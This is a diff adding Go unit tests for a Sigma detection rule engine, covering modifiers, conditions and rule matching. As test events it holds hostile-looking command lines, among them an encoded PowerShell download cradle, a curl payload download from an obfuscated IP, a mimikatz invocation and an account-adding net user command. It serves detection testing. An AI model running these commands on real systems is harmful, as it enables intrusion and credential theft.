@@ -0,0 +1,521 @@
+package unit_tests
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"path/filepath"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	sigma "github.com/markuskont/go-sigma-rule-engine/pkg/sigma/v2"
+	yaml "gopkg.in/yaml.v2"
+
+	singe "github.com/Adversary-Informed-Defense/singe/pkg/singe"
+	detection "github.com/Adversary-Informed-Defense/singe/pkg/singe/detection"
+	tools "github.com/Adversary-Informed-Defense/singe/pkg/singe/tools"
+	types "github.com/Adversary-Informed-Defense/singe/pkg/singe/types"
+	assert "github.com/stretchr/testify/assert"
+	require "github.com/stretchr/testify/require"
+)
+
+// jsonEvent returns the event of a JSON log message
+func jsonEvent(t *testing.T, msg string) sigma.DynamicMap {
+	event := sigma.DynamicMap{}
+	require.NoError(t, json.Unmarshal([]byte(msg), &event))
+	return event
+}
+
+// wideBase64 returns the base64 encoding of the UTF-16LE encoding of a string, as passed to powershell.exe -enc
+func wideBase64(str string) string {
+	units := utf16.Encode([]rune(str))
+	buf := make([]byte, 0, 2*len(units))
+	for _, unit := range units {
+		buf = append(buf, byte(unit), byte(unit>>8))
+	}
+	return base64.StdEncoding.EncodeToString(buf)
+}
+
+func TestSelectionModifiers(t *testing.T) {
+	tests := []struct {
+		name      string
+		selection string
+		event     string
+		match     bool
+	}{
+		{"exact ignores case", `Image: 'C:\Windows\System32\whoami.exe'`, `{"Image": "c:\\windows\\system32\\WHOAMI.EXE"}`, true},
+		{"exact is whole", `Image: 'whoami.exe'`, `{"Image": "C:\\Windows\\System32\\whoami.exe"}`, false},
+		{"wildcards", `Image: '*\who?mi.exe'`, `{"Image": "C:\\Windows\\System32\\whoami.exe"}`, true},
+		{"escaped wildcard", `CommandLine: 'dir \*'`, `{"CommandLine": "dir x"}`, false},
+		{"escaped wildcard literal", `CommandLine: 'dir \*'`, `{"CommandLine": "dir *"}`, true},
+		{"endswith", `Image|endswith: '\whoami.exe'`, `{"Image": "C:\\Windows\\System32\\whoami.exe"}`, true},
+		{"startswith", `Image|startswith: 'C:\Windows\'`, `{"Image": "C:\\Users\\whoami.exe"}`, false},
+		{"contains any", "CommandLine|contains: [' /priv', ' /groups']", `{"CommandLine": "whoami /groups"}`, true},
+		{"contains all", "CommandLine|contains|all: [' /priv', ' /groups']", `{"CommandLine": "whoami /groups"}`, false},
+		{"cased", `User|cased: SYSTEM`, `{"User": "system"}`, false},
+		{"number", `EventID: 4624`, `{"EventID": 4624}`, true},
+		{"number as string", `EventID: 4624`, `{"EventID": "4624"}`, true},
+		{"list field", `Tags: admin`, `{"Tags": ["user", "Admin"]}`, true},
+		{"nested field", `host.name: JUMP01`, `{"host": {"name": "jump01"}}`, true},
+		{"missing field", `User: SYSTEM`, `{"Image": "whoami.exe"}`, false},
+		{"base64", `Data|base64: 'whoami'`, `{"Data": "d2hvYW1p"}`, true},
+		{"base64 is cased", `Data|base64: 'whoami'`, `{"Data": "D2HVYW1P"}`, false},
+		{"base64offset", `CommandLine|base64offset|contains: 'whoami'`, `{"CommandLine": "` + base64.StdEncoding.EncodeToString([]byte("cmd /c whoami /all")) + `"}`, true},
+		{"wide base64", `CommandLine|wide|base64: 'whoami'`, `{"CommandLine": "` + wideBase64("whoami") + `"}`, true},
+		{"utf16le base64offset", `CommandLine|utf16le|base64offset|contains: 'whoami'`, `{"CommandLine": "-enc ` + wideBase64("& whoami /priv") + `"}`, true},
+		{"utf16be base64", `Data|utf16be|base64: 'ab'`, `{"Data": "AGEAYg=="}`, true},
+		{"utf16 base64", `Data|utf16|base64: 'ab'`, `{"Data": "//5hAGIA"}`, true},
+		{"wide", `Data|wide|contains: 'whoami'`, `{"Data": "w\u0000h\u0000o\u0000a\u0000m\u0000i\u0000"}`, true},
+		{"wide is cased", `Data|wide|contains: 'WHOAMI'`, `{"Data": "w\u0000h\u0000o\u0000a\u0000m\u0000i\u0000"}`, false},
+		{"windash slash", `CommandLine|windash|contains: ' -priv'`, `{"CommandLine": "whoami /priv"}`, true},
+		{"windash en dash", `CommandLine|windash|contains: ' -priv'`, `{"CommandLine": "whoami –priv"}`, true},
+		{"windash inner dash", `CommandLine|windash: 'Invoke-Expression'`, `{"CommandLine": "Invoke/Expression"}`, false},
+		{"windash mixed flags", `CommandLine|windash: 'net user -a -b -c -d -e -f'`, `{"CommandLine": "net user /a –b -c —d ―e /f"}`, true},
+		{"windash wildcard", `CommandLine|windash: '* -enc *'`, `{"CommandLine": "powershell /enc SQBFAFgA"}`, true},
+		{"windash flag only", `CommandLine|windash|contains: ' -enc'`, `{"CommandLine": "powershell xenc"}`, false},
+		{"re", `CommandLine|re: 'net\s+user\s+\w+\s+/add'`, `{"CommandLine": "net  user bob /add"}`, true},
+		{"re is cased", `CommandLine|re: 'net user'`, `{"CommandLine": "NET USER"}`, false},
+		{"re i flag", `CommandLine|re|i: 'net user'`, `{"CommandLine": "NET USER"}`, true},
+		{"re m flag", `CommandLine|re|m: '^user$'`, `{"CommandLine": "net\nuser\n"}`, true},
+		{"re s flag", `CommandLine|re|s: 'net.user'`, `{"CommandLine": "net\nuser"}`, true},
+		{"cidr", `DestinationIp|cidr: ['10.0.0.0/8', 'fc00::/7']`, `{"DestinationIp": "fd12:3456::1"}`, true},
+		{"cidr outside", `DestinationIp|cidr: '10.0.0.0/8'`, `{"DestinationIp": "11.0.0.1"}`, false},
+		{"cidr not an address", `DestinationIp|cidr: '10.0.0.0/8'`, `{"DestinationIp": "localhost"}`, false},
+		{"list of maps", "- User: SYSTEM\n- Image|endswith: whoami.exe", `{"Image": "whoami.exe"}`, true},
+		{"lt", `DestinationPort|lt: 1024`, `{"DestinationPort": 445}`, true},
+		{"lt equal", `DestinationPort|lt: 1024`, `{"DestinationPort": 1024}`, false},
+		{"lte", `DestinationPort|lte: 1024`, `{"DestinationPort": 1024}`, true},
+		{"gt numeric string", `BytesSent|gt: 1000000`, `{"BytesSent": "52428800"}`, true},
+		{"gte float", `Score|gte: 0.5`, `{"Score": 0.5}`, true},
+		{"gte rule string", `LogonType|gte: '10'`, `{"LogonType": 9}`, false},
+		{"not a number", `DestinationPort|gt: 1024`, `{"DestinationPort": "http"}`, false},
+		{"missing number", `DestinationPort|lt: 1024`, `{"Image": "whoami.exe"}`, false},
+		{"exists", `User|exists: true`, `{"User": ""}`, true},
+		{"exists object", `host|exists: true`, `{"host": {"name": "WS1"}}`, true},
+		{"exists missing", `User|exists: true`, `{"Image": "whoami.exe"}`, false},
+		{"not exists", `User|exists: false`, `{"Image": "whoami.exe"}`, true},
+		{"not exists present", `User|exists: false`, `{"User": "SYSTEM"}`, false},
+		{"null", `User: null`, `{"User": null}`, true},
+		{"null missing", `User: null`, `{"Image": "whoami.exe"}`, true},
+		{"null present", `User: null`, `{"User": "SYSTEM"}`, false},
+		{"null or value", `User: [null, SYSTEM]`, `{"User": "system"}`, true},
+		{"empty is not null", `User: ''`, `{"Image": "whoami.exe"}`, false},
+		{"fieldref", `TargetUserName|fieldref: SubjectUserName`, `{"SubjectUserName": "Bob", "TargetUserName": "bob"}`, true},
+		{"fieldref differs", `TargetUserName|fieldref: SubjectUserName`, `{"SubjectUserName": "bob", "TargetUserName": "alice"}`, false},
+		{"fieldref cased", `TargetUserName|fieldref|cased: SubjectUserName`, `{"SubjectUserName": "Bob", "TargetUserName": "bob"}`, false},
+		{"fieldref missing", `TargetUserName|fieldref: SubjectUserName`, `{"TargetUserName": "bob"}`, false},
+		{"fieldref both missing", `TargetUserName|fieldref: SubjectUserName`, `{"Image": "whoami.exe"}`, false},
+		{"fieldref literal wildcards", `CommandLine|fieldref: Pattern`, `{"CommandLine": "whoami", "Pattern": "*"}`, false},
+		{"fieldref endswith", `Image|endswith|fieldref: OriginalFileName`, `{"Image": "C:\\Windows\\cmd.exe", "OriginalFileName": "Cmd.Exe"}`, true},
+		{"fieldref contains nested", `CommandLine|contains|fieldref: user.name`, `{"CommandLine": "net user bob /add", "user": {"name": "bob"}}`, true},
+		{"fieldref number", `SourcePort|fieldref: DestinationPort`, `{"SourcePort": 445, "DestinationPort": "445"}`, true},
+		{"fieldref gt", `BytesReceived|gt|fieldref: BytesSent`, `{"BytesReceived": 52428800, "BytesSent": "1024"}`, true},
+		{"fieldref any", `TargetUserName|fieldref: [SubjectUserName, CallerUserName]`, `{"CallerUserName": "bob", "TargetUserName": "bob"}`, true},
+		{"fieldref all", `TargetUserName|fieldref|all: [SubjectUserName, CallerUserName]`, `{"CallerUserName": "bob", "TargetUserName": "bob"}`, false},
+	}
+	for _, tt := range tests {
+		var selection interface{}
+		require.NoError(t, yaml.Unmarshal([]byte(tt.selection), &selection), tt.name)
+		branch, err := detection.NewSelection(selection)
+		require.NoError(t, err, tt.name)
+		match, applicable := branch.Match(jsonEvent(t, tt.event))
+		assert.True(t, applicable, tt.name)
+		assert.Equal(t, tt.match, match, tt.name)
+	}
+
+	// Encoded values are matched byte for byte, so that UTF-16 bytes that are not valid UTF-8 are not folded together
+	var selection interface{}
+	require.NoError(t, yaml.Unmarshal([]byte(`Data|utf16le: 'Ä'`), &selection))
+	branch, err := detection.NewSelection(selection)
+	require.NoError(t, err)
+	match, _ := branch.Match(sigma.DynamicMap{"Data": "\xc4\x00"})
+	assert.True(t, match)
+	match, _ = branch.Match(sigma.DynamicMap{"Data": "\xc5\x00"})
+	assert.False(t, match)
+
+	errs := []struct {
+		selection string
+		err       string
+	}{
+		{`Image|endwith: whoami.exe`, "modifier endwith"},
+		{`Image|contains|endswith: whoami.exe`, "modifier endswith conflicts"},
+		{`CommandLine|contains|i: whoami`, "flags i without the re modifier"},
+		{`CommandLine|base64|re: whoami`, "cannot be combined"},
+		{`CommandLine|re: 'a(?=b)'`, "invalid or unsupported Perl syntax"},
+		{`CommandLine|re: 'a[b'`, "missing closing ]"},
+		{`DestinationIp|cidr: '10.0.0.0'`, "invalid CIDR address"},
+		{`Image: []`, "empty value list"},
+		{`DestinationPort|gt: http`, "value http is not a number"},
+		{`DestinationPort|gt|base64: 1024`, "cannot be combined"},
+		{`CommandLine|windash|base64: ' -enc'`, "modifier windash combined with value encoding"},
+		{`CommandLine|windash|re: ' -enc'`, "cannot be combined"},
+		{`User|exists: yes please`, "is not a boolean"},
+		{`User|exists|contains: true`, "exists cannot be combined"},
+		{`User|contains: null`, "null value cannot have modifiers"},
+		{`Image|fieldref: [OriginalFileName, 1]`, "referenced field 1 is not a field name"},
+		{`Image|fieldref|re: OriginalFileName`, "fieldref cannot be combined"},
+		{`Image|fieldref|base64: OriginalFileName`, "fieldref cannot be combined"},
+		{`- whoami`, "is not a map"},
+	}
+	for _, tt := range errs {
+		var selection interface{}
+		require.NoError(t, yaml.Unmarshal([]byte(tt.selection), &selection), tt.selection)
+		_, err := detection.NewSelection(selection)
+		if assert.Error(t, err, tt.selection) {
+			assert.Contains(t, err.Error(), tt.err, tt.selection)
+		}
+	}
+}
+
+func TestComparisonRules(t *testing.T) {
+	const rule = `title: RDP Logon From A High Source Port
+id: f6d3a66e-f912-44e7-805f-63f707a2143c
+status: experimental
+logsource:
+    product: windows
+    service: security
+detection:
+    selection:
+        EventID: 4624
+        LogonType|gte: 10
+        LogonType|lte: 10
+    filter_port:
+        IpPort|lt: 49152
+    filter_no_address:
+        - IpAddress|exists: false
+        - IpAddress: null
+    condition: selection and not 1 of filter_*
+level: medium
+`
+	engine, err := singe.NewEngineFrom(singe.FromBytes("rdp.yml", []byte(rule)), singe.FailOnError())
+	require.NoError(t, err)
+	tests := []struct {
+		event string
+		match bool
+	}{
+		{`{"EventID": 4624, "LogonType": 10, "IpAddress": "203.0.113.7", "IpPort": "51234"}`, true},
+		{`{"EventID": 4624, "LogonType": "10", "IpAddress": "203.0.113.7", "IpPort": 51234}`, true},
+		{`{"EventID": 4624, "LogonType": 3, "IpAddress": "203.0.113.7", "IpPort": 51234}`, false},
+		{`{"EventID": 4624, "LogonType": 10, "IpAddress": "203.0.113.7", "IpPort": 3389}`, false},
+		{`{"EventID": 4624, "LogonType": 10, "IpAddress": null, "IpPort": 51234}`, false},
+		{`{"EventID": 4624, "LogonType": 10, "IpPort": 51234}`, false},
+	}
+	for _, tt := range tests {
+		_, matched, err := engine.Evaluate(tt.event, "json")
+		require.NoError(t, err, tt.event)
+		assert.Equal(t, tt.match, matched, tt.event)
+	}
+}
+
+// mapEvent is a structured event other than sigma.DynamicMap, selecting flat fields
+type mapEvent map[string]interface{}
+
+func (m mapEvent) Keywords() ([]string, bool) {
+	return nil, false
+}
+
+func (m mapEvent) Select(key string) (interface{}, bool) {
+	val, ok := m[key]
+	return val, ok
+}
+
+func TestFieldReferenceRules(t *testing.T) {
+	const rule = `title: Renamed Windows Binary
+id: e3340008-6b34-4cf6-ad0b-95bf1016307b
+status: experimental
+logsource:
+    product: windows
+    category: process_creation
+detection:
+    selection:
+        OriginalFileName:
+            - 'cmd.exe'
+            - 'powershell.exe'
+            - 'whoami.exe'
+    filter_name:
+        Image|endswith|fieldref: OriginalFileName
+    condition: selection and not filter_name
+level: medium
+`
+	engine, err := singe.NewEngineFrom(singe.FromBytes("renamed.yml", []byte(rule)), singe.FailOnError())
+	require.NoError(t, err)
+	tests := []struct {
+		event string
+		match bool
+	}{
+		{`{"Image": "C:\\Users\\Public\\svchost.exe", "OriginalFileName": "whoami.exe"}`, true},
+		{`{"Image": "C:\\Windows\\System32\\WHOAMI.EXE", "OriginalFileName": "whoami.exe"}`, false},
+		{`{"Image": "C:\\Windows\\System32\\notepad.exe", "OriginalFileName": "notepad.exe"}`, false},
+	}
+	for _, tt := range tests {
+		_, matched, err := engine.Evaluate(tt.event, "json")
+		require.NoError(t, err, tt.event)
+		assert.Equal(t, tt.match, matched, tt.event)
+	}
+
+	var selection interface{}
+	require.NoError(t, yaml.Unmarshal([]byte(`TargetUserName|fieldref: SubjectUserName`), &selection))
+	branch, err := detection.NewSelection(selection)
+	require.NoError(t, err)
+	match, applicable := branch.Match(mapEvent{"SubjectUserName": "bob", "TargetUserName": "BOB"})
+	assert.True(t, applicable)
+	assert.True(t, match)
+	match, _ = branch.Match(mapEvent{"SubjectUserName": "bob", "TargetUserName": "alice"})
+	assert.False(t, match)
+}
+
+func TestConditions(t *testing.T) {
+	const selections = `
+selection_img:
+    Image|endswith: '\whoami.exe'
+selection_cli:
+    CommandLine|contains: ' /priv'
+filter:
+    User: SYSTEM
+_internal:
+    User: admin
+keywords:
+    - whoami
+`
+	tests := []struct {
+		condition string
+		event     string
+		match     bool
+	}{
+		{"selection_img and not filter", `{"Image": "C:\\whoami.exe"}`, true},
+		{"selection_img and not filter", `{"Image": "C:\\whoami.exe", "User": "SYSTEM"}`, false},
+		{"selection_cli or selection_img and filter", `{"Image": "C:\\whoami.exe"}`, false},
+		{"selection_cli or selection_img and filter", `{"CommandLine": "whoami /priv"}`, true},
+		{"(selection_cli or selection_img) and not filter", `{"Image": "C:\\whoami.exe"}`, true},
+		{"not not selection_img", `{"Image": "C:\\whoami.exe"}`, true},
+		{"1 of selection_*", `{"CommandLine": "whoami /priv"}`, true},
+		{"all of selection_*", `{"CommandLine": "whoami /priv"}`, false},
+		{"all of selection_* AND NOT filter", `{"Image": "C:\\whoami.exe", "CommandLine": "whoami /priv"}`, true},
+		{"1 of them", `{"User": "admin"}`, false},
+		{"1 of them", `{"User": "SYSTEM"}`, true},
+		{"keywords", `{"Image": "C:\\whoami.exe"}`, false},
+	}
+	for _, tt := range tests {
+		var rule sigma.Detection
+		require.NoError(t, yaml.Unmarshal([]byte(selections+"condition: "+tt.condition), &rule), tt.condition)
+		branch, err := detection.NewBranch(rule)
+		require.NoError(t, err, tt.condition)
+		match, _ := branch.Match(jsonEvent(t, tt.event))
+		assert.Equal(t, tt.match, match, tt.condition+" "+tt.event)
+	}
+
+	// Keywords match plain log lines, and lists of conditions are joined by logical disjunction
+	var rule sigma.Detection
+	require.NoError(t, yaml.Unmarshal([]byte(selections+"condition:\n    - selection_img\n    - keywords\n"), &rule))
+	branch, err := detection.NewBranch(rule)
+	require.NoError(t, err)
+	match, applicable := branch.Match(types.StaticString{Message: "user ran WHOAMI /all"})
+	assert.True(t, match)
+	assert.True(t, applicable)
+
+	errs := []struct {
+		condition   string
+		err         string
+		unsupported bool
+	}{
+		{"selection_img | count() > 5", "aggregation not supported", true},
+		{"selection_img and missing", "missing condition identifier missing", false},
+		{"1 of missing_*", "missing condition identifier missing_*", false},
+		{"(selection_img", "missing closing parenthesis", false},
+		{"selection_img filter", `unexpected "filter"`, false},
+		{"selection_img and", "unexpected end of condition", false},
+		{"some of selection_*", `unknown quantifier "some"`, false},
+	}
+	for _, tt := range errs {
+		var rule sigma.Detection
+		require.NoError(t, yaml.Unmarshal([]byte(selections+"condition: "+tt.condition), &rule), tt.condition)
+		_, err := detection.NewBranch(rule)
+		if assert.Error(t, err, tt.condition) {
+			assert.Contains(t, err.Error(), tt.err, tt.condition)
+			var unsupported sigma.ErrUnsupportedToken
+			assert.Equal(t, tt.unsupported, errors.As(err, &unsupported), tt.condition)
+		}
+	}
+}
+
+// Rules that sigma.NewTree accepts match the same events with the trees of the detection package
+func TestUpstreamParity(t *testing.T) {
+	var rules []sigma.Rule
+	for _, dir := range []string{"testdata/rules", "testdata/ruletest", "testdata/suppress", "testdata/collections"} {
+		files, err := tools.DirFiles(dir)
+		require.NoError(t, err)
+		for _, file := range files {
+			data, err := file.Read()
+			require.NoError(t, err)
+			parsed, err := tools.ParseRuleFile(data)
+			require.NoError(t, err, file.Path)
+			for _, rule := range parsed {
+				rules = append(rules, rule.Rule)
+			}
+		}
+	}
+	detections := []string{
+		`selection:
+    Image: '*\whoami.exe'
+condition: selection`,
+		`selection:
+    Image: 'C:\Windows\System32*'
+    CommandLine: ['* /priv', '* /all']
+condition: selection`,
+		`selection:
+    - Image: '*\net.exe'
+    - CommandLine: '*whoami*'
+condition: selection`,
+		`selection:
+    Image: '*.exe'
+filter:
+    Image: 'C:\Windows\System32*'
+condition: selection and not filter`,
+		`net:
+    Image: '*\net.exe'
+whoami:
+    Image: '*\whoami.exe'
+priv:
+    CommandLine: '*/priv*'
+condition: (net or whoami) and priv`,
+		`sel_net:
+    Image: '*\net.exe'
+sel_whoami:
+    Image: '*\whoami.exe'
+condition: 1 of sel_*`,
+		`sel_image:
+    Image: '*\whoami.exe'
+sel_priv:
+    CommandLine: '*/priv*'
+condition: all of sel_*`,
+		`keywords:
+    - 'whoami'
+    - 'mimikatz'
+condition: keywords`,
+		`selection:
+    EventID: 4624
+    LogonType: [3, 10]
+condition: selection`,
+	}
+	for i, detectionYAML := range detections {
+		var rule sigma.Rule
+		ruleYAML := fmt.Sprintf("title: Parity %d\ndetection:\n    %s\n", i, strings.Replace(detectionYAML, "\n", "\n    ", -1))
+		require.NoError(t, yaml.Unmarshal([]byte(ruleYAML), &rule), i)
+		rules = append(rules, rule)
+	}
+	events := []string{
+		`{"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /priv"}`,
+		`{"Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net user bob /add"}`,
+		`{"Image": "C:\\Windows\\System32\\query.exe", "CommandLine": "query user"}`,
+		`{"Image": "C:\\Users\\Public\\whoami.exe", "CommandLine": "whoami /groups"}`,
+		`{"Image": "C:\\Windows\\System32\\hostname.exe"}`,
+		`{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -enc SQBFAFgA"}`,
+		`{"CommandLine": "mimikatz.exe privilege::debug"}`,
+		`{"EventID": 4624, "LogonType": 10}`,
+		`{"EventID": "4624", "LogonType": 2}`,
+	}
+	for _, rule := range rules {
+		upstream, err := sigma.NewTree(sigma.RuleHandle{Rule: rule})
+		require.NoError(t, err, rule.Title)
+		tree, err := detection.NewTree(sigma.RuleHandle{Rule: rule})
+		require.NoError(t, err, rule.Title)
+		for _, event := range events {
+			want := upstream.Match(jsonEvent(t, event))
+			got := tree.Match(jsonEvent(t, event))
+			assert.Equal(t, want, got, "%s %v: %s", rule.Title, rule.Detection["condition"], event)
+		}
+	}
+
+	// The detection package departs from sigma.NewTree where the latter does not follow the Sigma specification
+	divergences := []struct {
+		name      string
+		selection string
+		event     string
+		upstream  bool
+		match     bool
+	}{
+		{"values ignore case", `Image: 'C:\Windows\System32\whoami.exe'`, `{"Image": "c:\\windows\\system32\\WHOAMI.EXE"}`, false, true},
+		{"modifiers are not field names", `Image|endswith: '\whoami.exe'`, `{"Image": "C:\\Windows\\System32\\whoami.exe"}`, false, true},
+		{"question mark wildcard", `CommandLine: '*powershell*-e?c *'`, `{"CommandLine": "powershell.exe -enc SQBFAFgA"}`, false, true},
+		{"backslash escapes wildcards", `Image: 'C:\Windows\*'`, `{"Image": "C:\\Windows\\System32\\whoami.exe"}`, true, false},
+	}
+	for _, tt := range divergences {
+		var rule sigma.Rule
+		ruleYAML := fmt.Sprintf("title: %s\ndetection:\n    selection:\n        %s\n    condition: selection\n", tt.name, tt.selection)
+		require.NoError(t, yaml.Unmarshal([]byte(ruleYAML), &rule), tt.name)
+		upstream, err := sigma.NewTree(sigma.RuleHandle{Rule: rule})
+		require.NoError(t, err, tt.name)
+		tree, err := detection.NewTree(sigma.RuleHandle{Rule: rule})
+		require.NoError(t, err, tt.name)
+		assert.Equal(t, tt.upstream, upstream.Match(jsonEvent(t, tt.event)), tt.name)
+		assert.Equal(t, tt.match, tree.Match(jsonEvent(t, tt.event)), tt.name)
+	}
+}
+
+// The rules of testdata/modifiers are modeled on SigmaHQ rules whose modifiers sigma.NewTree rejects
+func TestModifierRules(t *testing.T) {
+	files, err := ioutil.ReadDir("testdata/modifiers")
+	require.NoError(t, err)
+	for _, file := range files {
+		data, err := ioutil.ReadFile(filepath.Join("testdata/modifiers", file.Name()))
+		require.NoError(t, err)
+		rules, err := tools.ParseRuleFile(data)
+		require.NoError(t, err)
+		_, err = sigma.NewTree(sigma.RuleHandle{Rule: rules[0].Rule})
+		assert.Error(t, err, file.Name())
+	}
+
+	engine := singe.CreateEngine("testdata/modifiers")
+	report := engine.LoadReport()
+	assert.Equal(t, []int{4, 4, 0, 0}, []int{report.Total, report.Ok, report.Failed, report.Unsupported})
+
+	// Modifiers that are not implemented leave the rule unsupported rather than failed
+	const expand = `title: Expand Placeholder
+id: 6d917a7e-ff67-4d46-b7ce-6f10ea0b42e3
+logsource:
+    category: process_creation
+    product: windows
+detection:
+    selection:
+        Image|expand: '%AdminShares%\*'
+    condition: selection
+`
+	expandEngine, err := singe.NewEngineFrom(singe.FromBytes("expand.yml", []byte(expand)), singe.FailOnError())
+	require.NoError(t, err)
+	expandReport := expandEngine.LoadReport()
+	require.Len(t, expandReport.Rules, 1)
+	assert.Equal(t, tools.UnsupportedStatus, expandReport.Rules[0].Status)
+	assert.Contains(t, expandReport.Rules[0].Err.Error(), "modifier expand")
+
+	const (
+		iexID      = "88f680b8-070e-402c-ae11-d2914f2257f1"
+		privID     = "97a80ec7-0e2f-4d05-9ef4-65760e634f6b"
+		rdpID      = "c24ddae5-5459-463e-868a-23817b3924ef"
+		obfuscated = "cb5a2333-56cf-4562-8fcb-22ba1bca728d"
+	)
+	tests := []struct {
+		event string
+		ids   []string
+	}{
+		{`{"CommandLine": "powershell.exe -enc ` + wideBase64("IEX (New-Object Net.WebClient).DownloadString('http://x')") + `"}`, []string{iexID}},
+		{`{"CommandLine": "powershell.exe -e ` + base64.StdEncoding.EncodeToString([]byte("$a=1;iex(New-Object Net.WebClient)")) + `"}`, []string{iexID}},
+		{`{"CommandLine": "powershell.exe -enc ` + wideBase64("Get-Process") + `"}`, nil},
+		{`{"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /priv"}`, []string{privID}},
+		{`{"OriginalFileName": "whoami.exe", "CommandLine": "whoami —all"}`, []string{privID}},
+		{`{"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /groups"}`, nil},
+		{`{"Initiated": "true", "DestinationPort": 3389, "DestinationIp": "203.0.113.7"}`, []string{rdpID}},
+		{`{"Initiated": "true", "DestinationPort": 3389, "DestinationIp": "172.20.1.5"}`, nil},
+		{`{"Initiated": "true", "DestinationPort": 3389, "DestinationIp": "fe80::1"}`, nil},
+		{`{"Initiated": "true", "DestinationPort": 3389}`, []string{rdpID}},
+		{`{"CommandLine": "curl http://192.168.0xA8.5/payload -o x.exe"}`, []string{obfuscated}},
+		{`{"CommandLine": "curl http://192.168.1.5/payload -o x.exe"}`, nil},
+	}
+	for _, tt := range tests {
+		output, _, err := engine.Evaluate(tt.event, "json")
+		require.NoError(t, err, tt.event)
+		assert.Equal(t, tt.ids, output.Result.IDList, tt.event)
+	}
+}